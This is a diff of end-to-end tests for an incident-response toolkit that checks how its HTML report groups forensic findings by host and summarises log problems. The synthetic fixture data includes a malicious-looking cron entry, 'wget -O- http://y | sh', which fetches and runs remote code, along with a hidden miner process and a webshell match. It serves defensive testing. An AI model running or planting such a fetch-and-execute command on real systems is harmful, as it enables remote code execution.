@@ -209,3 +209,151 @@ assert '&quot;quoted&quot;' in t"
 	got=$(mactime -b "$SCRATCH/body" -d -z UTC | python3 -c "import csv, sys; print(len(list(csv.reader(sys.stdin))) - 1)")
 	[ "$got" -eq "$want" ]
 }
+
+# Rows of a second host in every table, ranked so that sorting by score
+# alone would interleave the hosts.
+add_second_host() {
+	python3 - "$1" <<-'EOF2'
+	import sqlite3, sys
+	c = sqlite3.connect(sys.argv[1])
+	t0 = 1763762400 * 1000000
+	x = c.execute
+	# host 2 (db02, evidence 2): a process above web01's score and one below
+	x("INSERT INTO processes(id, evidence_id, host_id, pid, name, exe, exe_deleted, start_time)"
+	  " VALUES (50, 2, 2, 4242, 'miner', '/tmp/.m/miner', 1, ?)", (t0,))
+	x("INSERT INTO processes(id, evidence_id, host_id, pid, name, exe, exe_deleted, hidden)"
+	  " VALUES (51, 2, 2, 4343, 'ghost', '/usr/bin/ghost', 0, 1)")
+	x("INSERT INTO services(id, evidence_id, host_id, name, kind, command) VALUES"
+	  " (2, 2, 2, 'x-update.service', 'systemd', '/tmp/x')")
+	x("INSERT INTO tasks(id, evidence_id, host_id, kind, schedule, command, source_path)"
+	  " VALUES (2, 2, 2, 'cron', '@reboot', 'wget -O- http://y | sh', '/etc/cron.d/y')")
+	x("INSERT INTO certificates(id, evidence_id, host_id, path, subject, sha256, is_ca,"
+	  " in_trust_store) VALUES (2, 2, 2, '/usr/local/share/ca-certificates/y.crt',"
+	  " 'CN=Other Root', ?, 1, 1)", ("cd" * 32,))
+	x("INSERT INTO private_keys(id, evidence_id, host_id, path, format, key_type, bits,"
+	  " encrypted) VALUES (2, 2, 2, '/root/k.pem', 'pkcs8', 'rsa', 2048, 0)")
+	# a YARA match on a web01 file (file 4) beside db02's (file 3)
+	x("INSERT INTO yara_matches(id, file_id, rule, score) VALUES (2, 4, 'Webshell_Generic', 95)")
+	x("INSERT INTO ioc_hits(file_id, kind, value, ioc_source) VALUES (3, 'sha256', 'aa', 'iocs/x.txt:1')")
+	x("INSERT INTO ioc_hits(file_id, kind, value, ioc_source) VALUES (4, 'sha256', 'bb', 'iocs/x.txt:2')")
+	x("INSERT INTO ioc_hits(record_table, record_id, kind, value, ioc_source) VALUES"
+	  " ('processes', 50, 'ip', '45.77.1.2', 'iocs/ip.txt:3')")
+	x("INSERT INTO ioc_hits(file_id, kind, value, ioc_source) VALUES (5, 'md5', 'cc', 'iocs/x.txt:4')")
+	for i, (score, table, rid) in enumerate([(85, "processes", 50), (50, "services", 2),
+	                                         (90, "tasks", 2), (20, "certificates", 2),
+	                                         (10, "private_keys", 2)], 10):
+	    x("INSERT INTO findings(id, evidence_id, host_id, score, title, category, reasons, ts)"
+	      " VALUES (?, 2, 2, ?, ?, 'x', '[]', ?)", (i, score, "db02 finding %d" % i, t0))
+	    x("INSERT INTO finding_links VALUES (?, ?, ?)", (i, table, rid))
+	x("INSERT INTO log(evidence_id, ts, level, component, path, message) VALUES"
+	  " (2, ?, 'warning', 'processes', '/proc/9', 'cannot read')", (t0,))
+	x("INSERT INTO log(evidence_id, ts, level, component, path, message) VALUES"
+	  " (1, ?, 'error', 'files', '/etc/shadow', 'permission denied')", (t0,))
+	c.commit()
+	EOF2
+}
+
+@test "report: every table names the host and evidence of each row, rows grouped by host (Chromium DOM)" {
+	db=$SCRATCH/two.db
+	cp "$CASE_DIR/case.db" "$db"
+	add_second_host "$db"
+	"$ANALYZE" report --db "$db" -o "$SCRATCH/two.html"
+	chrome --dump-dom "file://$SCRATCH/two.html" > "$SCRATCH/dom.html"
+	python3 "$IRKIT_SRC/tests/e2e/dom_tables.py" "$SCRATCH/dom.html" > "$SCRATCH/t.json"
+	# the oracle: which host each section's rows belong to, from sqlite3
+	python3 - "$db" "$SCRATCH/t.json" <<-'EOF'
+	import collections, json, re, sqlite3, sys
+	c = sqlite3.connect(sys.argv[1])
+	t = json.load(open(sys.argv[2]))["tables"]
+	host_of_ev = dict(c.execute("SELECT e.id, h.hostname FROM evidence e JOIN hosts h ON h.id = e.host_id"))
+	def hosts(sql):
+	    return collections.Counter(h for (h,) in c.execute(sql))
+	linked = lambda tbl, extra="0": hosts(
+	    "SELECT h.hostname FROM %s t JOIN hosts h ON h.id = t.host_id WHERE t.id IN "
+	    "(SELECT record_id FROM finding_links WHERE record_table = '%s') OR %s" % (tbl, tbl, extra))
+	want = {
+	    "evidence": hosts("SELECT h.hostname FROM evidence e JOIN hosts h ON h.id = e.host_id"),
+	    "hosts": hosts("SELECT hostname FROM hosts"),
+	    "yara": hosts("SELECT h.hostname FROM yara_matches y JOIN files f ON f.id = y.file_id JOIN hosts h ON h.id = f.host_id"),
+	    "processes": linked("processes", "t.exe_deleted = 1 OR t.hidden = 1"),
+	    "services": linked("services"), "tasks": linked("tasks"),
+	    "certificates": linked("certificates"), "keys": linked("private_keys"),
+	    "iocs": hosts("SELECT h.hostname FROM ioc_hits i LEFT JOIN files f ON f.id = i.file_id "
+	                  "LEFT JOIN processes p ON i.record_table = 'processes' AND p.id = i.record_id "
+	                  "JOIN hosts h ON h.id = coalesce(f.host_id, p.host_id)"),
+	    "log": hosts("SELECT hostname FROM (SELECT DISTINCT h.hostname, l.level, l.component, "
+	                 "l.message FROM log l JOIN evidence e ON e.id = l.evidence_id "
+	                 "JOIN hosts h ON h.id = e.host_id WHERE l.level IN ('error', 'warning'))"),
+	}
+	for sec, counts in want.items():
+	    assert len(set(counts)) == 2, (sec, counts)	# the case really has both hosts
+	    tables = t[sec]
+	    assert len(tables) == 1, (sec, len(tables))
+	    hd, rows = tables[0]["headers"], tables[0]["rows"]
+	    hi, ei = hd.index("Host"), hd.index("Evidence")
+	    got = [r[hi].strip() for r in rows]
+	    assert collections.Counter(got) == counts, (sec, got, counts)
+	    # grouped: once a host's rows end, that host does not come back
+	    seen = [h for i, h in enumerate(got) if i == 0 or got[i - 1] != h]
+	    assert len(seen) == len(set(seen)), (sec, got)
+	    # each row's evidence (#id name) is of that row's host
+	    for r in rows:
+	        ids = re.findall(r"^#(\d+) \S", r[ei].strip(), re.M)
+	        assert ids, (sec, r[ei])
+	        assert all(host_of_ev[int(i)] == r[hi].strip() for i in ids), (sec, r)
+	    print(sec, got)
+	# findings: a table per host, and each finding names its host and evidence
+	fh = t["findings"][0]
+	assert fh["headers"][:2] == ["Host", "Evidence"], fh["headers"]
+	assert sorted(r[0] for r in fh["rows"]) == ["db02", "web01"], fh["rows"]
+	EOF
+	grep -q 'host db02 &middot; .*finding 10, evidence #2 irkit-db02-20251121T220000Z.tar.zst</div>' "$SCRATCH/two.html"
+}
+
+@test "report: problems of one kind are one row with a count and examples; errors first, never folded" {
+	db=$SCRATCH/log.db
+	cp "$CASE_DIR/case.db" "$db"
+	python3 - "$db" <<-'EOF2'
+	import sqlite3, sys
+	c = sqlite3.connect(sys.argv[1])
+	t0 = 1763762400 * 1000000
+	rows = [(2, t0 + i, "warning", "certificates",
+	         "/usr/lib/python3/dist-packages/pkg%d/tests/bad%d.pem" % (i % 7, i),
+	         "PEM block %d 'CERTIFICATE': bad base64" % (i % 4)) for i in range(100)]
+	rows += [(2, t0 + 200 + i, "warning", "processes", "/proc/%d/exe" % (900 + i),
+	          "cannot read: Permission denied") for i in range(2)]
+	# errors come last in time: they must still lead their host
+	rows += [(2, t0 + 500, "error", "files", "/etc/shadow", "cannot read: Permission denied")]
+	# rule compile errors (the analyzer's own, no evidence): each its own row
+	rows += [(None, t0 + 600 + i, "error", "rules", "/rules/bad%d.yar" % i,
+	          "rule file 'bad%d.yar' line %d: syntax error" % (i, 3 + i)) for i in range(2)]
+	c.executemany("INSERT INTO log(evidence_id, ts, level, component, path, message) VALUES (?,?,?,?,?,?)", rows)
+	c.commit()
+	EOF2
+	"$ANALYZE" report --db "$db" -o "$SCRATCH/log.html"
+	chrome --dump-dom "file://$SCRATCH/log.html" > "$SCRATCH/dom.html"
+	python3 "$IRKIT_SRC/tests/e2e/dom_tables.py" "$SCRATCH/dom.html" > "$SCRATCH/t.json"
+	python3 - "$SCRATCH/t.json" <<-'EOF2'
+	import json, sys
+	t = json.load(open(sys.argv[1]))["tables"]["log"][0]
+	hd, rows = t["headers"], t["rows"]
+	col = {h: hd.index(h) for h in ("Host", "Level", "Component", "Count", "Examples", "Problem")}
+	got = [(r[col["Host"]], r[col["Level"]], r[col["Component"]], int(r[col["Count"]])) for r in rows]
+	print(got)
+	assert got == [
+	    ("(analysis, no host)", "error", "rules", 1),
+	    ("(analysis, no host)", "error", "rules", 1),
+	    ("db02", "error", "files", 1),
+	    ("db02", "warning", "certificates", 100),
+	    ("db02", "warning", "processes", 2),
+	], got
+	assert "bad0.yar" in rows[0][col["Problem"]] and "bad1.yar" in rows[1][col["Problem"]]
+	# the first examples, and how many more
+	ex = rows[3][col["Examples"]]
+	assert ex.startswith("/usr/lib/python3/dist-packages/pkg0/tests/bad0.pem: PEM block 0 'CERTIFICATE': bad base64\n"), ex
+	assert ex.count("bad base64") == 3 and ex.endswith("97 more"), ex
+	assert rows[4][col["Examples"]].count("/proc/") == 2
+	EOF2
+	[ "$(sqlite3 "$db" "SELECT count(*) FROM log WHERE level IN ('error', 'warning')")" -eq 105 ]
+	grep -q '3 errors and 102 warnings in the log' "$SCRATCH/log.html"
+}
